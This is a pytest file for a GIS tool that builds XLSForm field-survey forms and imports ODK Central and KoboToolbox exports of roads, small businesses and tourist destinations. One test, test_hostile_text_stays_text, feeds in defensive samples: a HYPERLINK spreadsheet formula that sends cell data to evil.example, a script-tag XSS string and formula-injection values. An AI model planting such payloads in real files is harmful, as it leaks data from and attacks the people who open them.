"""Field forms (``siapwisata form``) and the import of ODK Central / KoboToolbox exports.

The forms are checked by pyxform itself (the XLSForm -> XForm converter that ODK Central
and KoboToolbox run; ``validate=False`` skips only the Java-based ODK Validate), and their
fields against what the *importer* recognises (its own ``Table.column`` and
``unknown_headers``), not against the form code. The exports are built from the XForm's
own paths the way the servers write them:

- ODK Central CSV (central-backend ``lib/data/briefcase.js``): ``group-field`` headers, a
  geopoint as ``<path>-Latitude``, ``-Longitude``, ``-Altitude``, ``-Accuracy``, a geotrace
  as one ``lat lon alt acc;...`` cell, ``SubmissionDate`` first and ``KEY``,
  ``SubmitterID``, ... last;
- KoboToolbox XLSX (formpack ``FormGPSField``): ``group/field`` headers, a geopoint as its
  ``lat lon alt acc`` column plus ``group/_field_latitude``, ``_longitude``, ``_altitude``,
  ``_precision``, and ``_id``, ``_uuid``, ``_submission_time``, ``_index``, ... .

The workspace is test_importers' (real Mimika boundary and kampung, hand-made roads), so
expected matches are the ones worked out by hand there.
"""

from __future__ import annotations

import csv
import hashlib
import re
import shutil
import xml.etree.ElementTree as ET
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pyxform import xls2xform
from typer.testing import CliRunner

from geo import schema
from geo.exceptions import InputError
from geo.io import importers as imp
from geo.io import read_table
from geo.io.workspace import Workspace
from geo.steps import import_file
from geo.steps.forms import write_field_form
from tests.io.test_importers import _roads, base_ws, ll  # noqa: F401  (base_ws: fixture)

NS = {"h": "http://www.w3.org/1999/xhtml", "x": "http://www.w3.org/2002/xforms"}
KINDS = {"jalan": "road-conditions", "umkm": "umkm", "destinasi": "destinations"}
META = {"start", "end", "instanceID", "instanceName"}


@pytest.fixture()
def ws(base_ws: Path, tmp_path: Path) -> Workspace:  # noqa: F811
    dst = tmp_path / "ws.gpkg"
    shutil.copyfile(base_ws, dst)
    return Workspace(dst)


def sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


class XForm:
    """The XForm pyxform makes of an XLSForm: fields (name -> path, type), choices."""

    def __init__(self, xlsx: Path):
        warnings: list[str] = []
        result = xls2xform.convert(str(xlsx), warnings=warnings, validate=False)
        assert warnings == []
        self.xml = result.xform
        root = ET.fromstring(self.xml)
        self.binds = {b.get("nodeset", "").rsplit("/", 1)[-1]: b
                      for b in root.iter("{http://www.w3.org/2002/xforms}bind")}
        self.paths = {name: b.get("nodeset", "") for name, b in self.binds.items()}
        self.choices: dict[str, list[tuple[str, str]]] = {}
        for inst in root.iter("{http://www.w3.org/2002/xforms}instance"):
            if inst.get("id"):
                self.choices[inst.get("id", "")] = [
                    (item.findtext("x:name", namespaces=NS) or "",
                     item.findtext("x:label", namespaces=NS) or "")
                    for item in inst.iter("{http://www.w3.org/2002/xforms}item")]
        self.title = root.findtext("h:head/h:title", namespaces=NS)
        data = root.find("h:head/x:model/x:instance/*", namespaces=NS)
        assert data is not None
        self.form_id, self.version = data.get("id"), data.get("version")

    def fields(self) -> list[str]:
        return [n for n in self.paths if n not in META]

    def type(self, name: str) -> str:
        return self.binds[name].get("type", "")

    def odk_header(self, name: str) -> str:
        """ODK Central's CSV header: the path below the root joined by '-'."""
        return "-".join(self.paths[name].split("/")[2:])

    def kobo_header(self, name: str) -> str:
        """KoboToolbox's header (XML names, groups included): joined by '/'."""
        return "/".join(self.paths[name].split("/")[2:])


def form_xlsx(kind: str, tmp_path: Path, ws: Workspace | None = None) -> Path:
    out = tmp_path / f"form_{kind}.xlsx"
    write_field_form(kind, out, ws)
    return out


# --- the forms -----------------------------------------------------------------------------


@pytest.mark.parametrize("kind", list(KINDS))
def test_form_converts_and_its_fields_are_the_imports_columns(kind: str, tmp_path: Path) -> None:
    xf = XForm(form_xlsx(kind, tmp_path))
    assert xf.form_id == f"siapwisata_{kind}" and re.fullmatch(r"\d{12}", xf.version or "")
    assert xf.title and "SIAP Wisata" in xf.title
    fields = xf.fields()
    # the importer itself recognises every field, and finds each column it needs
    table = read_table_of(tmp_path, fields)
    assert imp.unknown_headers(table, KINDS[kind]) == []
    if kind == "jalan":
        groups = [imp.RUAS_ALIASES, imp.CONDITION_ALIASES, imp.SURFACE_ALIASES,
                  imp.AUTHORITY_ALIASES, imp.WKT_ALIASES]
    else:
        spec = imp.SPECS[KINDS[kind]]
        groups = [spec.id_aliases, imp.NAME_ALIASES, spec.class_aliases, imp.COORD_ALIASES]
        if kind == "umkm":
            groups.append(imp.KAMPUNG_CODE_ALIASES)
        else:
            groups += list(imp.ATTRIBUTE_ALIASES.values())
    found = [table.column(g) for g in groups]
    assert None not in found and len(set(found)) == len(fields) == len(groups)


def read_table_of(tmp_path: Path, headers: list[str]):
    f = tmp_path / "headers.csv"
    f.write_text(";".join(headers) + "\n" + ";".join("x" for _ in headers) + "\n")
    return read_table(f)


def test_road_form_types_choices_and_labels(tmp_path: Path) -> None:
    xf = XForm(form_xlsx("jalan", tmp_path))
    assert xf.type("geometri") == "geotrace"
    # the trace is required exactly when no ruas_id is given
    assert "ruas_id" in xf.binds["geometri"].get("required", "")
    assert xf.choices["kondisi"] == [("baik", "Baik"), ("sedang", "Sedang"),
                                     ("rusak_ringan", "Rusak ringan"),
                                     ("rusak_berat", "Rusak berat")]
    assert [n for n, _ in xf.choices["permukaan"]] == ["aspal", "beton", "paving", "kerikil",
                                                       "tanah"]
    assert dict(xf.choices["kewenangan"])["desa"] == "Jalan desa"
    # no workspace: ruas_id is text, checked for the shape of an id
    assert "ruas_id" not in xf.choices and "regex" in xf.binds["ruas_id"].get("constraint", "")


def test_destination_form_numbers_carry_the_import_ranges(tmp_path: Path) -> None:
    xf = XForm(form_xlsx("destinasi", tmp_path))
    assert xf.type("koordinat") == "geopoint"
    assert xf.binds["koordinat"].get("required") == "true()"
    for key, want in (("pengunjung_tahun", ("int", "0", "100000000")),
                      ("daya_tarik", ("int", "1", "5")),
                      ("jumlah_fasilitas", ("int", "0", "1000")),
                      ("importance", ("decimal", "0", "100"))):
        lo, hi, _ = schema.RANGES[key]
        assert (float(want[1]), float(want[2])) == (lo, hi)  # the ranges these tests know
        b = xf.binds[key]
        assert b.get("type") == want[0]
        assert b.get("constraint") == f". >= {want[1]} and . <= {want[2]}"
        assert "Harus antara" in b.get("{http://openrosa.org/javarosa}constraintMsg", "")
    assert [n for n, _ in xf.choices["kategori"]] == list(schema.DESTINATION_CATEGORIES)
    assert xf.choices["ya_tidak"] == [("ya", "Ya"), ("tidak", "Tidak")]
    assert [n for n, _ in xf.choices["sinyal"]] == ["none", "2g", "3g", "4g"]


def test_choices_come_from_the_workspace(ws: Workspace, tmp_path: Path) -> None:
    xf = XForm(form_xlsx("jalan", tmp_path, ws))
    # test_importers numbers the hand roads' sections by hand: one per road name, in the order
    # of their first edge (R00001 = way 100 ... R00005 = way 400; the water link has none)
    ruas = xf.choices["ruas_id"]
    assert [n for n, _ in ruas] == ["R00001", "R00002", "R00003", "R00004", "R00005"]
    assert ruas[0][1] == "R00001 - Jalan 100, 0,6 km, Jalan kabupaten"
    assert xf.odk_header("ruas_id") == "ruas-ruas_id"
    um = XForm(form_xlsx("umkm", tmp_path, ws))
    admin = ws.read_table("admin_areas")
    codes = set(admin.loc[admin["level"] == "kampung", "kode"].astype(str))
    assert {n for n, _ in um.choices["kode_kampung"]} == codes and len(codes) > 100


# --- exports -------------------------------------------------------------------------------


def odk_csv(path: Path, xf: XForm, rows: list[dict[str, str]]) -> Path:
    """An ODK Central CSV export of ``rows`` (field name -> value; a geopoint as
    ``lat lon alt acc``)."""
    header = ["SubmissionDate", "start", "end"]
    for name in xf.fields():
        h = xf.odk_header(name)
        if xf.type(name) == "geopoint":
            header += [f"{h}-Latitude", f"{h}-Longitude", f"{h}-Altitude", f"{h}-Accuracy"]
        else:
            header.append(h)
    header += ["meta-instanceID", "meta-instanceName", "KEY", "SubmitterID", "SubmitterName",
               "AttachmentsPresent", "AttachmentsExpected", "Status", "ReviewState",
               "DeviceID", "Edits", "FormVersion"]
    with path.open("w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(header)
        for k, row in enumerate(rows):
            cells = ["2026-12-01T02:00:00.000Z", "2026-12-01T01:00:00.000+09:00",
                     "2026-12-01T01:10:00.000+09:00"]
            for name in xf.fields():
                v = row.get(name, "")
                if xf.type(name) == "geopoint":
                    cells += (v.split() + ["", "", "", ""])[:4]
                else:
                    cells.append(v)
            uuid = f"uuid:0000{k}"
            cells += [uuid, "", uuid, "5", "Petugas PU", "0", "0", "", "approved",
                      "collect:abc", "0", xf.version or ""]
            w.writerow(cells)
    return path


def kobo_xlsx(path: Path, xf: XForm, rows: list[dict[str, object]], *,
              labels: dict[str, str] | None = None) -> Path:
    """A KoboToolbox XLSX export; ``labels`` (name -> label) makes it a "labels" export."""
    def head(name: str) -> str:
        return labels[name] if labels else xf.kobo_header(name)

    header = ["start", "end"]
    for name in xf.fields():
        header.append(head(name))
        if xf.type(name) == "geopoint":
            q = labels[name] if labels else name
            prefix = "" if labels else xf.kobo_header(name).rsplit("/", 1)[0] + "/"
            header += [f"{prefix}_{q}_{p}" for p in ("latitude", "longitude", "altitude",
                                                      "precision")]
    header += ["meta/instanceID", "_id", "_uuid", "_submission_time", "_validation_status",
               "_notes", "_status", "_submitted_by", "__version__", "_tags", "_index"]
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = "Pendataan UMKM"
    sheet.append(header)
    for k, row in enumerate(rows, start=1):
        cells: list[object] = ["2026-12-01T01:00:00", "2026-12-01T01:10:00"]
        for name in xf.fields():
            v = row.get(name)
            cells.append(v)
            if xf.type(name) == "geopoint":
                parts = [float(p) for p in str(v).split()] if v else []
                cells += (parts + [None] * 4)[:4]
        cells += [f"uuid:k{k}", 1000 + k, f"k{k}", "2026-12-01T02:00:00", "", "", "",
                  "petugas", "vABC", "", k]
        sheet.append(cells)
    book.save(path)
    return path


def gps(lon: float, lat: float, alt: float = 12.0, acc: float = 4.5) -> str:
    return f"{lat!r} {lon!r} {alt} {acc}"


def test_odk_central_csv_road_survey_with_ruas_and_geotrace(ws: Workspace,
                                                            tmp_path: Path) -> None:
    xf = XForm(form_xlsx("jalan", tmp_path, ws))
    # A trace 8 m north of the main road from x=-10 to x=610 covers e0..e2 (way 100) and
    # runs across the cross streets e3 and e4 (test_importers works out why they are not
    # taken); R00005 is way 400 (e6).
    trace = ";".join(gps(*ll(x, 8)) for x in (-10, 150, 300, 450, 610)) + ";"
    f = odk_csv(tmp_path / "siapwisata_jalan.csv", xf, [
        {"ruas_id": "", "geometri": trace, "kondisi": "rusak_berat", "permukaan": "aspal",
         "kewenangan": "kabupaten"},
        {"ruas_id": "R00005", "kondisi": "sedang", "permukaan": "kerikil"},
    ])
    s = import_file("road-conditions", f, ws)
    assert s.rows_read == 2 and s.updated == 4
    r = ws.read("roads")
    assert r["condition"].tolist() == ["rusak_berat"] * 3 + ["unknown"] * 3 + ["sedang",
                                                                               "unknown"]
    assert r["surface"].tolist()[:3] == ["aspal"] * 3 and r.loc[6, "surface"] == "kerikil"
    assert r["condition_source"].fillna("-").tolist()[:4] == ["agency"] * 3 + ["-"]


def test_kobo_xlsx_destinations_with_groups_and_metadata(ws: Workspace, tmp_path: Path) -> None:
    xf = XForm(form_xlsx("destinasi", tmp_path, ws))
    a, b = ll(100, 200), ll(-1500, 900)
    f = kobo_xlsx(tmp_path / "kobo_destinasi.xlsx", xf, [
        {"id": "DST-101", "nama": "Pantai Baru", "kategori": "pantai", "koordinat": gps(*a),
         "pengunjung_tahun": 1200, "promosi_portal": "ya", "sinyal": "3g",
         "pengelola": "pokdarwis", "fasilitas": "toilet, parkir"},
        {"id": "DST-102", "nama": "Air Terjun", "kategori": "alam", "koordinat": gps(*b),
         "daya_tarik": 4, "papan_petunjuk": "tidak", "sinyal": "none"},
    ])
    s = import_file("destinations", f, ws)
    assert s.rows_read == 2 and s.added == 2
    d = ws.read("destinations").set_index("id")
    assert d.loc["DST-101", "geometry"].x == pytest.approx(a[0], abs=1e-9)
    assert d.loc["DST-101", "geometry"].y == pytest.approx(a[1], abs=1e-9)
    assert d.loc["DST-102", "geometry"].x == pytest.approx(b[0], abs=1e-9)
    assert d.loc["DST-101", "category"] == "pantai" and d.loc["DST-102", "category"] == "alam"
    assert int(d.loc["DST-101", "pengunjung_tahun"]) == 1200
    assert int(d.loc["DST-101", "jumlah_fasilitas"]) == 2  # derived from "toilet, parkir"
    assert bool(d.loc["DST-101", "promosi_portal"]) is True
    assert bool(d.loc["DST-102", "papan_petunjuk"]) is False
    assert d.loc["DST-102", "sinyal"] == "none" and d.loc["DST-101", "pengelola"] == "pokdarwis"
    # nothing of the server's metadata reached the layer
    leaked = [c for c in d.columns if re.search(r"uuid|submission|instance|index|_id$|^start$"
                                                r"|^end$|altitude|precision|latitude", c)]
    assert leaked == []


def test_kobo_labels_export_maps_labels_back(ws: Workspace, tmp_path: Path) -> None:
    """KoboToolbox's default "Labels" export: question labels as headers, choice labels as
    values; the kampung chosen by its label places a UMKM without GPS."""
    out = form_xlsx("umkm", tmp_path, ws)
    xf = XForm(out)
    survey = openpyxl.load_workbook(out)["survey"]
    head = [c.value for c in survey[1]]
    labels = {r[head.index("name")]: r[head.index("label")]
              for r in survey.iter_rows(min_row=2, values_only=True) if r[head.index("label")]}
    choice_label = dict(xf.choices["kode_kampung"])
    kampung = sorted(choice_label)[0]
    p = ll(300, -50)
    f = kobo_xlsx(tmp_path / "kobo_umkm_labels.xlsx", xf, [
        {"id": "U-1", "nama": "Warung Mama", "jenis": "Kuliner", "koordinat": gps(*p)},
        {"id": "U-2", "nama": "Noken Ibu", "jenis": "Kerajinan / oleh-oleh",
         "kode_kampung": choice_label[kampung]},
    ], labels=labels)
    s = import_file("umkm", f, ws)
    assert s.added == 2
    u = ws.read("umkm").set_index("id")
    assert u.loc["U-1", "type"] == "kuliner" and u.loc["U-2", "type"] == "kerajinan"
    assert u.loc["U-1", "location_precision"] == "exact"
    assert u.loc["U-1", "geometry"].x == pytest.approx(p[0], abs=1e-9)
    assert u.loc["U-2", "location_precision"] == "kampung_centroid"
    assert u.loc["U-2", "kode_kampung"] == kampung


def test_bad_values_in_an_export_name_row_and_column_and_change_nothing(
        ws: Workspace, tmp_path: Path) -> None:
    xf = XForm(form_xlsx("jalan", tmp_path, ws))
    f = odk_csv(tmp_path / "rusak.csv", xf, [
        {"ruas_id": "R00001", "kondisi": "baik"},                       # line 2: fine
        {"ruas_id": "R00002", "kondisi": "hancur"},                     # line 3: unknown word
        {"ruas_id": "", "geometri": "-4.55 abc 0 0;", "kondisi": "baik"},  # line 4: bad trace
    ])
    before = sha(ws.path)
    with pytest.raises(InputError) as exc:
        import_file("road-conditions", f, ws)
    assert sha(ws.path) == before
    got = {(p.line, p.field): p.message for p in exc.value.problems}
    assert "tidak dikenal" in got[(3, "kondisi_jalan-kondisi")]
    assert "hancur" in got[(3, "kondisi_jalan-kondisi")]
    assert "jejak GPS (geotrace) tidak terbaca" in got[(4, "ruas-geometri")]
    assert all(p.line != 2 for p in exc.value.problems)

    dx = XForm(form_xlsx("destinasi", tmp_path))
    g = kobo_xlsx(tmp_path / "rusak.xlsx", dx, [
        {"id": "D1", "nama": "A", "kategori": "pantai", "koordinat": gps(*ll(0, 0))},
        {"id": "D2", "nama": "B", "kategori": "pantai", "koordinat": gps(*ll(0, 0)),
         "pengunjung_tahun": 500_000_000},
    ])
    with pytest.raises(InputError) as exc2:
        import_file("destinations", g, ws)
    assert sha(ws.path) == before
    (p,) = exc2.value.problems
    assert (p.line, p.field) == (3, "atribut/pengunjung_tahun") and "di luar rentang" in p.message


def test_hostile_text_stays_text(ws: Workspace, tmp_path: Path) -> None:
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
    roads = _roads()
    roads.loc[0:2, "name"] = evil
    roads.loc[3, "name"] = "${ruas_id} <script>alert(1)</script>"
    with ws.update() as stage:
        stage.write("roads", roads)
    out = form_xlsx("jalan", tmp_path, ws)
    xf = XForm(out)  # converts: '${' in a road name is not taken as a reference
    labels = dict(xf.choices["ruas_id"])
    assert evil in labels["R00001"] and "<script>alert(1)</script>" in labels["R00002"]
    cells = [c for row in openpyxl.load_workbook(out)["choices"].iter_rows() for c in row
             if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert cells and all(c.data_type == "s" for c in cells)

    dx = XForm(form_xlsx("destinasi", tmp_path))
    f = odk_csv(tmp_path / "hostile.csv", dx, [
        {"id": "=1+1", "nama": evil, "kategori": "pantai", "koordinat": gps(*ll(0, 0)),
         "fasilitas": "@SUM(A1)"}])
    import_file("destinations", f, ws)
    d = ws.read("destinations")
    assert d["id"].tolist() == ["=1+1"] and d["name"].tolist() == [evil]
    assert d["fasilitas"].tolist() == ["@SUM(A1)"]


def test_plain_agency_files_are_not_taken_for_exports(ws: Workspace, tmp_path: Path) -> None:
    # "status" (status jalan) and "end" are ordinary columns outside an export
    f = tmp_path / "survei.csv"
    f.write_text("ruas_id;kondisi;status\nR00001;baik;Jalan Desa\n")
    s = import_file("road-conditions", f, ws)
    assert s.updated == 3
    assert ws.read("roads")["authority"].tolist()[:3] == ["desa"] * 3


def test_cli_form(ws: Workspace, tmp_path: Path) -> None:
    from geo.cli import app

    runner = CliRunner()
    out = tmp_path / "jalan.xlsx"
    res = runner.invoke(app, ["form", "jalan", "--out", str(out), "--workspace", str(ws.path)])
    assert res.exit_code == 0, res.output
    assert "5 pilihan ruas_id dari workspace" in res.output
    assert XForm(out).fields() == ["ruas_id", "geometri", "kondisi", "permukaan", "kewenangan"]
    bad = runner.invoke(app, ["form", "umkm", "--out", str(tmp_path / "f.csv")])
    assert bad.exit_code != 0 and not (tmp_path / "f.csv").exists()


@settings(max_examples=40, deadline=None)
@given(st.lists(st.tuples(st.floats(-9.0, -3.5), st.floats(134.0, 138.5),
                          st.floats(-50, 5000), st.floats(0, 99)), min_size=2, max_size=30),
       st.tuples(st.floats(-9.0, -3.5), st.floats(134.0, 138.5)))
def test_gps_strings_keep_every_coordinate(tmp_path_factory: pytest.TempPathFactory,
                                           trace: list[tuple[float, float, float, float]],
                                           point: tuple[float, float]) -> None:
    """Whatever the fixes, a geotrace becomes the line through the same (lon, lat) in order,
    and a Kobo "lat lon alt acc" point the same lintang/bujur (ODK writes latitude first)."""
    import shapely

    from geo.io.xlsform import build_form, from_collect_export

    d = tmp_path_factory.mktemp("gps")
    f = d / "export.csv"
    cell = ";".join(" ".join(repr(v) for v in fix) for fix in trace)
    f.write_text(f"_uuid,ruas/geometri,kondisi_jalan/kondisi\nk1,{cell},baik\n")
    t = from_collect_export(read_table(f), build_form("jalan", version="0"))
    line = shapely.from_wkt(t.frame["geometri"].iat[0])
    assert shapely.get_coordinates(line).tolist() == [[lon, lat] for lat, lon, _, _ in trace]
    assert t.headers["geometri"] == "ruas/geometri"
    g = d / "umkm.csv"
    g.write_text(f"_uuid;lokasi/koordinat;identitas/id\nk1;{point[0]!r} {point[1]!r} 3 4.5;U1\n")
    u = from_collect_export(read_table(g), build_form("umkm", version="0"))
    assert u.frame["koordinat"].iat[0] == f"{point[0]!r}, {point[1]!r}"


def test_every_choice_is_read_back_as_itself() -> None:
    """Each choice name a phone stores is what the importer reads it as, and its label is
    unique in its list (so a "labels" export maps back without doubt)."""
    import pandas as pd

    from geo.io.xlsform import build_form
    from geo.roads import condition_class

    readers = {
        "kategori": imp.destination_category, "jenis": imp.umkm_type,
        "kondisi": condition_class, "permukaan": imp.pu_surface, "kewenangan": imp.pu_authority,
        "sinyal": lambda s: s.map(lambda v: imp.parse_attribute("sinyal", v)[0]),
        "pengelola": lambda s: s.map(lambda v: imp.parse_attribute("pengelola", v)[0]),
    }
    seen = set()
    for kind in KINDS:
        for q in build_form(kind, version="0").questions():
            if not q.choices:
                continue
            names = [n for n, _ in q.choices]
            labels = [lb.casefold() for _, lb in q.choices]
            assert len(set(labels)) == len(labels), q.name
            if q.list_name == "ya_tidak":
                for name in names:
                    assert _boolean(name) is (name == "ya")
                continue
            got = readers[q.name](pd.Series(names, dtype="string")).astype(object).tolist()
            assert got == names, q.name
            seen.add(q.name)
    assert seen == set(readers)


def _boolean(v: str) -> bool | None:
    from geo.io import boolean

    return boolean(v)
